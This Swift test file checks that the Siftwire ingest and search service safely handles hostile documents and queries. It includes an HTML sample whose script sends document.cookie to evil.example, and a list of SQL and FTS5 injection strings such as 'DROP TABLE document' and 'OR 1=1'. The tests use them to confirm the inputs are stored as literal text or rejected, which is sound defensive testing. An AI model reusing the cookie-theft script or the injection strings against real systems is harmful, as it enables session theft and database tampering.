import Foundation
import SiftwireClient
import Testing
import SiftwireCLI
import SiftwireExtraction
import SiftwireFuzzing
import SiftwireMessaging
import SiftwireProtocol

/// Hostile documents through the real ingest service, and the accepted ones through extraction and
/// the index: each is accepted or rejected with a reason that states the limit it broke.
@Suite("Hostile documents and queries on a real stack", .serialized)
struct HostileDocumentTests {
    static let limit = 16 << 20

    static func rawRequest(_ endpoint: String, _ frames: Frames, timeout: Duration = .seconds(30)) throws -> Frames? {
        let socket = try ZMQSocket(ZMQContext(), .dealer)
        try socket.connect(endpoint)
        try socket.send(frames)
        return try socket.receive(timeout: timeout)
    }

    /// Every span of the document as stored points at its own text.
    static func expectExactSpans(_ view: DocumentView) {
        let scalars = Array(view.document.text.unicodeScalars)
        func slice(_ start: Int, _ end: Int) -> String? {
            guard start >= 0, start <= end, end <= scalars.count else { return nil }
            var s = String.UnicodeScalarView()
            s.append(contentsOf: scalars[start..<end])
            return String(s)
        }
        for mention in view.mentions { #expect(slice(mention.start, mention.end) == mention.text, "\(mention)") }
        for date in view.dates { #expect(slice(date.start, date.end) == date.text, "\(date)") }
    }

    @Test func eachHostileDocumentIsAcceptedOrRejectedWithAReason() throws {
        let stack = try TestStack(extractors: 1)
        defer { _ = stack.stop() }
        var mutator = Mutator(seed: 50)
        let binary = String(decoding: mutator.randomBytes(maxCount: 4096) + Data(repeating: 0xFF, count: 2048), as: UTF8.self)
        let arabic = "\u{200F}قال أبو محمد الجولاني في إدلب إن هيئة تحرير الشام (HTS) لن تنسحب. Abu Mohammad al-Julani said on 3 August 2023 in Idlib that HTS would stay; \u{202B}إدلب\u{202C} was calm."
        let html = "<html><head><script>document.location='https://evil.example/steal?c='+document.cookie</script></head><body><p>Fighters from HTS entered Sarmada near Idlib on 3 August 2023.</p></body></html>"
        let repaired = "Fighters from HTS entered Idlib \u{FFFD} on Monday, residents said \u{FFFD}\u{FFFD}."
        let sqlText = "Officials in Idlib said '; DROP TABLE document; -- was scrawled on a wall near Sarmada, and ) OR 1=1 -- too."
        let longLine = String(repeating: "Fighters from HTS clashed with the Syrian National Army near Afrin on Monday, local sources said. ", count: 6000)
        let cases: [(name: String, document: NewDocument, accepted: Bool, reason: String?)] = [
            ("empty", NewDocument(text: ""), false, "empty document"),
            ("whitespace", NewDocument(text: "  \n\t\u{A0}\r\n"), false, "empty document"),
            ("binary", NewDocument(text: binary), false, "binary document"),
            ("nul", NewDocument(text: "Idlib\u{0}HTS\u{0}"), false, "NUL"),
            ("50 MB line", NewDocument(text: String(repeating: "x", count: 50 << 20)), false, "document is 52428800 bytes; the limit is \(Self.limit) bytes"),
            ("huge source", NewDocument(text: "Idlib", source: String(repeating: "s", count: 5000)), false, "source is 5000 bytes; the limit is 4096 bytes"),
            ("bad date", NewDocument(text: "Idlib", date: "2026-02-31"), false, "is not YYYY-MM-DD"),
            ("arabic", NewDocument(text: arabic, source: "rtl"), true, nil),
            ("html", NewDocument(text: html, source: "html"), true, nil),
            ("repaired", NewDocument(text: repaired, source: "repaired"), true, nil),
            ("sql", NewDocument(text: sqlText, source: "sql"), true, nil),
            ("long line", NewDocument(text: longLine, source: "long"), true, nil),
        ]
        var accepted: [String: (id: String, text: String)] = [:]
        for item in cases {
            let reply = try stack.client.submit([item.document])
            let result = try #require(reply.results.first)
            #expect(reply.limits == SubmitAccepted.Limits(maxDocumentBytes: Self.limit, maxBatch: 1000, maxMessageBytes: 64 << 20))
            if item.accepted {
                #expect(result.outcome == .accepted, "\(item.name): \(result.reason ?? "")")
                accepted[item.name] = (result.id ?? "", item.document.text)
            } else {
                #expect(result.outcome == .rejected, "\(item.name)")
                #expect(result.reason?.contains(item.reason ?? "") == true, "\(item.name): \(result.reason ?? "no reason")")
            }
        }

        // Too many documents in one submit: the error states the limit.
        do {
            _ = try stack.client.submit(Array(repeating: NewDocument(text: "x"), count: 1001))
            Issue.record("1001 documents should be too many")
        } catch {
            #expect(error.code == .tooLarge && error.message.contains("the limit is 1000"), "\(error)")
        }

        // Invalid UTF-8 on the wire is not repaired: the body is refused.
        let endpoint = stack.launcher.options.endpoints.ingest
        let badBody = Data(#"{"documents":[{"text":"Idlib "#.utf8) + Data([0xC3, 0x28, 0xFF]) + Data(#""}]}"#.utf8)
        let reply = try #require(try Self.rawRequest(endpoint, [Data("siftwire/1".utf8), Data("ingest.submit".utf8), Data("r-utf8".utf8), badBody]))
        let error = try Envelope.decode(reply).decodeBody(ErrorReply.self)
        #expect(error.code == .invalidBody && error.message.contains("UTF-8"), "\(error.message)")

        // A message over the message limit: libzmq drops that connection, no reply; the service lives on.
        let oversized = [Data("siftwire/1".utf8), Data("ingest.submit".utf8), Data("r-huge".utf8), Data(count: 100 << 20)]
        #expect(try Self.rawRequest(endpoint, oversized, timeout: .seconds(3)) == nil)
        let health = try stack.client.ingestHealth(timeout: .seconds(10))
        #expect(health.details["maxMessageBytes"] == "\(64 << 20)" && health.details["maxDocumentBytes"] == "\(Self.limit)")

        // Accepted documents go through extraction and the index unchanged, with exact spans.
        var summary = Ingestor.Summary()
        try Ingestor(client: stack.client, showProgress: false).wait(for: accepted.values.map(\.id), summary: &summary, timeout: .seconds(180))
        #expect(summary.indexed == accepted.count, "dead: \(summary.dead)")
        for (name, item) in accepted {
            let view = try stack.client.ask(DocumentQuery(id: item.id))
            #expect(view.document.text == item.text, "\(name) is stored byte for byte")
            Self.expectExactSpans(view)
        }
        let arabicView = try stack.client.ask(DocumentQuery(id: accepted["arabic"]!.id))
        #expect(arabicView.mentions.contains { $0.entityID == "org:hts" }, "\(arabicView.mentions.map(\.text))")
        #expect(try stack.client.ask(SearchQuery(text: "إدلب", expand: false)).hits.map(\.id) == [accepted["arabic"]!.id])
        // Markup is text: the script is stored and searchable as words, never interpreted.
        #expect(try stack.client.ask(SearchQuery(text: "cookie", expand: false)).hits.map(\.id) == [accepted["html"]!.id])
        let longView = try stack.client.ask(DocumentQuery(id: accepted["long line"]!.id))
        #expect(longView.document.title.count <= 301, "a one-line document gets a short title")
        #expect(longView.mentions.contains { $0.entityID == "org:hts" })

        // Queries: FTS5 syntax errors and injection attempts are invalid_query or literal matches.
        let documents = try stack.client.ask(StatsQuery()).documents
        let attempts = ["\"", "*", "NEAR(", "NEAR(Idlib", "title:x", "nosuchcolumn:x", "'; DROP TABLE document; --",
                        ") OR 1=1 --", "\" OR 1=1 --", "Idlib'); DELETE FROM document; --", "^", "AND", "OR OR", "(((", "-Idlib",
                        "\"\"\"", "text: Idlib", "{title text}: HTS", "Idlib*", "\u{0}", "\"DROP TABLE document\""]
        var outcomes: [String: String] = [:]
        for text in attempts {
            do {
                let found = try stack.client.ask(SearchQuery(text: text, limit: 100))
                outcomes[text] = "\(found.total) hits"
            } catch {
                #expect(error.code == .invalidQuery || error.code == .invalidArgument, "\(text): \(error)")
                outcomes[text] = error.code.rawValue
            }
        }
        print("query attempts: \(outcomes.sorted { $0.key < $1.key })")
        #expect(outcomes["\""] == ErrorCode.invalidQuery.rawValue)
        #expect(outcomes["NEAR("] == ErrorCode.invalidQuery.rawValue)
        #expect(outcomes["nosuchcolumn:x"] == ErrorCode.invalidQuery.rawValue)
        #expect(outcomes["'; DROP TABLE document; --"] == ErrorCode.invalidQuery.rawValue)
        #expect(outcomes["\u{0}"] != nil)
        // A quoted SQL fragment is a literal phrase: it finds the document that contains it.
        #expect(try stack.client.ask(SearchQuery(text: "\"DROP TABLE document\"", expand: false)).hits.map(\.id) == [accepted["sql"]!.id])
        #expect(try stack.client.ask(SearchQuery(text: "Idlib", source: "' OR '1'='1")).total == 0)
        #expect(throws: SiftwireError.self) { try stack.client.ask(SearchQuery(text: "Idlib", entity: "x' OR '1'='1")) }
        #expect(try stack.client.ask(StatsQuery()).documents == documents, "no query changed the index")
        let indexHealth = try stack.client.health(of: stack.launcher.options.endpoints.index, timeout: .seconds(10))
        #expect(indexHealth.details["queryTimeLimitMs"] == "2000" && indexHealth.details["searchLimitCap"] == "100")
    }

    @Test func theCLIRefusesAFileOverTheLimitWithoutSendingIt() throws {
        let stack = try TestStack(extractors: 1)
        defer { _ = stack.stop() }
        let folder = stack.directory.appendingPathComponent("inbox")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let big = folder.appendingPathComponent("huge.txt")
        _ = FileManager.default.createFile(atPath: big.path, contents: nil)
        let handle = try FileHandle(forWritingTo: big)
        try handle.truncate(atOffset: 100 << 20)   // a sparse 100 MB file
        try handle.close()
        try "Fighters from HTS entered Idlib on Monday.".write(to: folder.appendingPathComponent("small.txt"), atomically: true, encoding: .utf8)
        var invalid = Data("Residents of Idlib said HTS fighters left ".utf8)
        invalid.append(contentsOf: [0xC3, 0x28, 0xFF])
        invalid.append(Data(" on Monday.".utf8))
        try invalid.write(to: folder.appendingPathComponent("repaired.txt"))

        let run = try stack.cli(["ingest", folder.path, "--wait", "--json"])
        #expect(run.status == 2, "a rejected file makes the exit status 2")
        let report = try #require(try JSONSerialization.jsonObject(with: Data(run.output.utf8)) as? [String: Any], "\(run.output)")
        #expect(report["accepted"] as? Int == 2, "the small file and the repaired one")
        #expect(report["indexed"] as? Int == 2)
        let rejected = try #require(report["rejected"] as? [[String: Any]])
        #expect(rejected.count == 1)
        let document = rejected.first?["document"] as? String
        let reason = rejected.first?["reason"] as? String
        #expect(document == big.path)
        #expect(reason == "document is \(100 << 20) bytes; the limit is \(Self.limit) bytes")
        // The repaired file was stored with U+FFFD where its invalid bytes were.
        let found = try stack.client.ask(SearchQuery(text: "Residents", expand: false))
        let view = try stack.client.ask(DocumentQuery(id: try #require(found.hits.first?.id)))
        #expect(view.document.text.contains("\u{FFFD}"))
    }
}
